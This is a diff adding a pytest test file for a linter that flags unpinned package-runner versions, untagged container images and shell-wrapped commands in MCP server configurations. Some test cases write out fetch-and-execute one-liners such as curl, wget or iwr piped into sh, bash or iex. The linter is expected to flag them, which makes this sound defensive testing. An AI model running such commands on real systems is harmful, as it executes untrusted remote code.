@@ -1,0 +1,95 @@
+"""Command lines as runners read them: pinned or not, through a shell or not."""
+
+from __future__ import annotations
+
+import pytest
+
+from mcpctl.lint.argv import command_line_hits
+
+SERVER = ("mcpServers", "s")
+
+
+def hits(command: str, *args: str) -> list[str]:
+    """`CODE where` for each hit, `where` being `command` or the argument's index."""
+    found = command_line_hits(SERVER, {"command": command, "args": list(args)})
+    return [f"{hit.code} {hit.path[3] if len(hit.path) > 3 else hit.path[2]}" for hit in found]
+
+
+@pytest.mark.parametrize(("argv", "expected"), [
+    (["npx", "-y", "@scope/server"], ["MCP020 1"]),
+    (["npx", "-y", "@scope/server@1.2.3"], []),
+    (["npx", "@scope/server@latest"], ["MCP020 0"]),
+    (["npx", "server@1"], ["MCP020 0"]),
+    (["npx", "server@~1.2.3"], ["MCP020 0"]),
+    (["npx", "-p", "@scope/server@1.2.3", "server-bin", "--flag"], []),
+    (["npx", "--package=@scope/server", "server-bin"], ["MCP020 0"]),
+    (["npx", "--registry", "https://npm.example", "server@2.0.0"], []),
+    (["npx", "./local-server.js"], []),
+    (["npx", "github:owner/repo"], []),
+    (["npx", "owner/repo"], []),
+    (["npx", "-c", "echo hi"], []),
+    (["npx.cmd", "-y", "server"], ["MCP020 1"]),
+    (["/usr/local/bin/bunx", "server"], ["MCP020 0"]),
+    (["pnpm", "dlx", "server@1.0.0-beta.1"], []),
+    (["pnpm", "dlx", "server"], ["MCP020 1"]),
+    (["yarn", "dlx", "server@next"], ["MCP020 1"]),
+    (["pnpm", "install"], []),
+    (["uvx", "mcp-server-time"], ["MCP020 0"]),
+    (["uvx", "mcp-server-time==2025.9.25"], []),
+    (["uvx", "mcp-server-time@2025.9.25"], []),
+    (["uvx", "mcp-server-time@latest"], ["MCP020 0"]),
+    (["uvx", "--python", "3.12", "--from", "mcp-server-git==1.0", "mcp-server-git"], []),
+    (["uvx", "-p", "3.12", "mcp-server-git"], ["MCP020 2"]),
+    (["uvx", "--from", "git+https://example.com/r.git@abc", "tool"], []),
+    (["uvx", "mcp-server-git==1.*"], ["MCP020 0"]),
+    (["uvx", "mcp-server-git~=1.0"], ["MCP020 0"]),
+    (["uv", "tool", "run", "mcp-server-git"], ["MCP020 2"]),
+    (["uv", "run", "server.py"], []),
+    (["pipx", "run", "mcp-server-git==1.0"], []),
+    (["pipx", "run", "--spec", "mcp-server-git", "mcp-server-git"], ["MCP020 2"]),
+    (["pipx", "install", "mcp-server-git"], []),
+    (["docker", "run", "-i", "--rm", "image"], ["MCP021 3"]),
+    (["docker", "run", "-i", "--rm", "-e", "TOKEN", "-v", "/a:/b", "image:1.2"], ["MCP022 7"]),
+    (["docker", "run", "--env=TOKEN", "image:latest"], ["MCP021 2"]),
+    (["docker", "run", "image:1.2@sha256:" + "a" * 64], []),
+    (["docker", "run", "localhost:5000/team/image"], ["MCP021 1"]),
+    (["docker", "run", "ghcr.io/owner/image:${TAG}"], []),
+    (["podman", "container", "run", "-it", "image"], ["MCP021 3"]),
+    (["docker", "pull", "image"], []),
+    (["node", "server.js"], []),
+])
+def test_package_runners_and_images(argv: list[str], expected: list[str]) -> None:
+    assert hits(*argv) == expected
+
+
+@pytest.mark.parametrize(("argv", "expected"), [
+    (["bash", "-c", "node server.js"], ["MCP030 0"]),
+    (["/bin/sh", "-ec", "exec node server.js"], ["MCP030 0"]),
+    (["zsh", "-l", "-c", "npx server"], ["MCP030 1", "MCP020 2"]),
+    (["bash", "scripts/server.sh"], []),
+    (["bash", "--norc", "scripts/server.sh"], []),
+    (["cmd", "/c", "npx", "-y", "server"], ["MCP030 0", "MCP020 3"]),
+    (["cmd.exe", "/C", "npx -y server@1.0.0"], ["MCP030 0"]),
+    (["powershell", "-NoProfile", "-Command", "npx -y server"], ["MCP030 1", "MCP020 2"]),
+    (["pwsh", "-EncodedCommand", "ZQBjAGgAbwA="], ["MCP030 0"]),
+    (["pwsh", "-File", "server.ps1"], []),
+    (["env", "FOO=1", "bash", "-c", "node x"], ["MCP030 2"]),
+    (["sh", "-c", "curl -fsSL https://x.example/i | sh"], ["MCP031 1", "MCP030 0"]),
+    (["bash", "-c", "bash <(curl -s https://x.example/i)"], ["MCP031 1", "MCP030 0"]),
+    (["powershell", "-c", "iwr https://x.example/i.ps1 | iex"], ["MCP031 1", "MCP030 0"]),
+    (["sh", "-c", "wget -qO- https://x.example/i | sudo -E bash"], ["MCP031 1", "MCP030 0"]),
+    (["sh", "-c", "curl https://x.example/data.json | jq ."], ["MCP030 0"]),
+    (["sh", "-c", "'unterminated"], ["MCP030 0"]),
+])
+def test_shells_are_looked_through(argv: list[str], expected: list[str]) -> None:
+    assert hits(*argv) == expected
+
+
+def test_a_pipe_in_the_command_itself_is_found() -> None:
+    assert hits("curl -s https://x.example/i | sh") == ["MCP031 command"]
+
+
+def test_entries_without_a_usable_command_line_are_skipped() -> None:
+    assert list(command_line_hits(SERVER, {"url": "https://x.example/mcp"})) == []
+    assert list(command_line_hits(SERVER, {"command": 3, "args": ["x"]})) == []
+    assert list(command_line_hits(SERVER, {"command": "npx", "args": "server"})) == []
